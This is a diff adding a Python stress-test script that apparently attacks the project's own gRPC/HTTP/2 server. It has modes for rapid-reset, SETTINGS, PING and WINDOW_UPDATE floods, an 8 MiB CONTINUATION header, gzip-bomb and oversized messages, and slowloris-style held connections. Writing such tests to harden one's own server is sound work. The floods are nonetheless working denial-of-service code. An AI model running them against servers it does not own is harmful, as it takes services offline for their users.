@@ -1,0 +1,312 @@
+#!/usr/bin/env python3
+"""Attacks on a port of ours, one a run: `attack.py MODE HOST:PORT [--count N] [--seconds S] [--clients C]`.
+
+Prints one JSON line: what was sent and how often the server closed a connection. What it does to the server is measured by attack_test.py.
+"""
+
+import argparse
+import gzip
+import json
+import os
+import select
+import socket
+import struct
+import threading
+import time
+
+import http2
+from http2 import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame
+
+HELLO = PREFACE + frame(SETTINGS, 0, 0)
+# A query's headers in full, then as references into the table that they made: what a flood sends of them costs few bytes.
+BLOCK = http2.header_block(http2.COMPUTE_ACTIONS)
+
+
+def discard(sock):
+    """Reads what there is, so that the server is never held up; False once it has closed."""
+    sock.setblocking(False)
+    try:
+        while True:
+            got = sock.recv(1 << 16)
+            if not got:
+                return False
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+
+
+class Flood:
+    """Sends bytes on a connection as fast as it takes them; connects anew when the server closes it."""
+
+    def __init__(self, address, deadline):
+        self.address, self.deadline = address, deadline
+        self.sent, self.connections, self.closed = 0, 0, 0
+
+    def run(self, count, batches):
+        """`batches(n)`: the bytes of a fresh connection's next `n` abuses; each of them counts once."""
+        while self.sent < count and time.monotonic() < self.deadline:
+            try:
+                sock = http2.connect(self.address, 2)
+            except OSError:
+                time.sleep(0.01)
+                continue
+            self.connections += 1
+            try:
+                sock.sendall(HELLO)
+                produce = batches()
+                while self.sent < count and time.monotonic() < self.deadline:
+                    abuses, data = next(produce)
+                    sock.settimeout(max(0.01, self.deadline - time.monotonic()))
+                    sock.sendall(data)
+                    self.sent += abuses
+                    if not discard(sock):
+                        raise OSError
+                # It is read until the time is over, so that nothing is over because we left.
+                while time.monotonic() < self.deadline and discard(sock):
+                    time.sleep(0.01)
+            except (OSError, StopIteration):
+                self.closed += 1
+            finally:
+                sock.close()
+
+
+def resets():
+    stream = 1
+    while True:
+        data = b""
+        for _ in range(50):
+            data += frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+            stream += 2
+        yield 50, data
+
+
+def settings():
+    # INITIAL_WINDOW_SIZE and MAX_FRAME_SIZE change back and forth.
+    data = b"".join(frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, 65535 + i % 2, 5, 16384 + i % 2)) for i in range(50))
+    while True:
+        yield 50, data
+
+
+def pings():
+    data = frame(PING, 0, 0, b"12345678") * 50
+    while True:
+        yield 50, data
+
+
+def window_updates():
+    data = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 50
+    while True:
+        yield 50, data
+
+
+def empty_data():
+    yield 0, frame(HEADERS, END_HEADERS, 1, BLOCK)
+    data = frame(DATA, 0, 1) * 50
+    while True:
+        yield 50, data
+
+
+def streams():
+    """Calls that begin and never end."""
+    stream = 1
+    while True:
+        data = b""
+        for _ in range(50):
+            data += frame(HEADERS, END_HEADERS, stream, BLOCK)
+            stream += 2
+        yield 50, data
+
+
+def unknown_methods():
+    stream = 1
+    block = http2.header_block("/troupe.v1.Nobody/Knows")
+    while True:
+        data = b""
+        for _ in range(50):
+            data += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
+            stream += 2
+        yield 50, data
+
+
+def big_headers():
+    """One header of 8 MiB in CONTINUATION frames."""
+    yield 0, frame(HEADERS, 0, 1, http2.header_block(http2.COMPUTE_ACTIONS) + b"\0\3big" + http2.hpack_int(8 << 20, 7))
+    while True:
+        yield 1, frame(CONTINUATION, 0, 1, b"x" * 16384)
+
+
+def big_message(size, compressed=b""):
+    def batches():
+        head = struct.pack(">BI", 1 if compressed else 0, len(compressed) or size)
+        yield 0, frame(HEADERS, END_HEADERS, 1, BLOCK if not compressed else http2.header_block(
+            http2.COMPUTE_ACTIONS, [("grpc-encoding", "gzip")]))
+        if compressed:
+            yield 1, frame(DATA, 0, 1, head + compressed[:16000])
+            for begin in range(16000, len(compressed), 16384):
+                yield 1, frame(DATA, 0, 1, compressed[begin:begin + 16384])
+        yield 1, frame(DATA, 0, 1, head + b"x" * 16000)
+        while True:
+            yield 1, frame(DATA, 0, 1, b"x" * 16384)
+    return batches
+
+
+class Windowed(Flood):
+    """A flood of DATA that keeps to the server's windows, as any client must whose bytes are to be taken."""
+
+    def run(self, count, batches):
+        while time.monotonic() < self.deadline and self.sent < count:
+            try:
+                sock = http2.connect(self.address, 2)
+            except OSError:
+                time.sleep(0.01)
+                continue
+            self.connections += 1
+            try:
+                self.one(sock, count, batches())
+            except (OSError, StopIteration, struct.error):
+                self.closed += 1
+            finally:
+                sock.close()
+
+    def one(self, sock, count, produce):
+        sock.sendall(HELLO)
+        windows, incoming, initial = {0: 65535, 1: 65535}, b"", 65535
+        pending = None
+        while self.sent < count and time.monotonic() < self.deadline:
+            if pending is None:
+                abuses, data = next(produce)
+                pending = data
+            size = len(pending) - 9 if pending[3] == DATA else 0
+            if size <= min(windows.values()):
+                sock.settimeout(max(0.01, self.deadline - time.monotonic()))
+                sock.sendall(pending)
+                windows = {stream: left - size for stream, left in windows.items()}
+                self.sent += abuses
+                pending = None
+                wait = 0
+            else:
+                wait = 0.05
+            if select.select([sock], [], [], wait)[0]:
+                got = sock.recv(1 << 16)
+                if not got:
+                    raise OSError
+                incoming += got
+            while len(incoming) >= 9 and len(incoming) >= 9 + int.from_bytes(incoming[:3], "big"):
+                size = int.from_bytes(incoming[:3], "big")
+                kind, flags, stream = incoming[3], incoming[4], int.from_bytes(incoming[5:9], "big")
+                body, incoming = incoming[9:9 + size], incoming[9 + size:]
+                if kind == WINDOW_UPDATE and stream in windows:
+                    windows[stream] += struct.unpack(">I", body)[0]
+                elif kind == SETTINGS and not flags & ACK:
+                    for number, value in struct.iter_unpack(">HI", body):
+                        if number == 4:
+                            windows[1] += value - initial
+                            initial = value
+                    sock.sendall(frame(SETTINGS, ACK, 0))
+                elif kind == RST_STREAM or kind == http2.GOAWAY:
+                    raise OSError
+
+
+def hold_connections(address, count, seconds, first_bytes):
+    """Connects `count` times at once and keeps what it gets; a connection that was closed is made anew."""
+    deadline = time.monotonic() + seconds
+    held, made, closed, failed = {}, 0, 0, 0
+    poll = select.poll()
+    while time.monotonic() < deadline:
+        while len(held) < count and time.monotonic() < deadline:
+            sock = socket.socket()
+            sock.setblocking(False)
+            host, port = address.rsplit(":", 1)
+            try:
+                sock.connect((host, int(port)))
+            except BlockingIOError:
+                pass
+            except OSError:
+                failed += 1
+                sock.close()
+                break
+            made += 1
+            held[sock.fileno()] = [sock, first_bytes]
+            poll.register(sock, select.POLLIN | (select.POLLOUT if first_bytes else 0))
+            if made % 64 == 0:
+                break
+        for fd, event in poll.poll(1):
+            sock, unsent = held[fd]
+            gone = bool(event & (select.POLLHUP | select.POLLERR))
+            if not gone and event & select.POLLOUT and unsent:
+                try:
+                    sock.send(unsent)
+                    held[fd][1] = b""
+                    poll.modify(sock, select.POLLIN)
+                except OSError:
+                    gone = True
+            if gone or (event & select.POLLIN and not discard(sock)):
+                poll.unregister(fd)
+                sock.close()
+                del held[fd]
+                closed += 1
+    for sock, _ in held.values():
+        sock.close()
+    return {"connections": made, "closed": closed, "held_at_end": len(held), "refused": failed}
+
+
+# Mode -> what a connection of it sends first and then never again.
+HOLDS = {
+    "idle": b"",
+    "half_preface": PREFACE[:10],
+    "settings_only": HELLO,
+    "unknown_method": HELLO + frame(HEADERS, END_HEADERS | END_STREAM, 1, http2.header_block("/troupe.v1.Nobody/Knows")),
+    "no_body": HELLO + frame(HEADERS, END_HEADERS, 1, BLOCK),
+}
+FLOODS = {
+    "resets": resets,
+    "settings": settings,
+    "pings": pings,
+    "window_updates": window_updates,
+    "empty_data": empty_data,
+    "streams": streams,
+    "unknown_methods": unknown_methods,
+    "big_headers": big_headers,
+}
+MODES = sorted([*HOLDS, *FLOODS, "message", "gzip"])
+
+
+def raise_descriptor_limit():
+    import resource
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("mode", choices=MODES)
+    parser.add_argument("address")
+    parser.add_argument("--count", type=int, default=40000, help="abuses, or connections held at once")
+    parser.add_argument("--seconds", type=float, default=3)
+    parser.add_argument("--clients", type=int, default=1, help="connections that flood side by side")
+    options = parser.parse_args()
+    os.nice(19)
+    raise_descriptor_limit()
+    if options.mode in HOLDS:
+        print(json.dumps(hold_connections(options.address, options.count, options.seconds, HOLDS[options.mode])))
+        return
+    deadline = time.monotonic() + options.seconds
+    if options.mode == "message":
+        kind, batches = Windowed, big_message(256 << 20)
+    elif options.mode == "gzip":
+        kind, batches = Windowed, big_message(0, gzip.compress(b"\0" * (1 << 30), 1)[:4 << 20])
+    else:
+        kind, batches = Flood, FLOODS[options.mode]
+    floods = [kind(options.address, deadline) for _ in range(options.clients)]
+    threads = [threading.Thread(target=flood.run, args=(options.count, batches)) for flood in floods]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    print(json.dumps({"sent": sum(f.sent for f in floods), "connections": sum(f.connections for f in floods),
+                      "closed": sum(f.closed for f in floods)}))
+
+
+if __name__ == "__main__":
+    main()
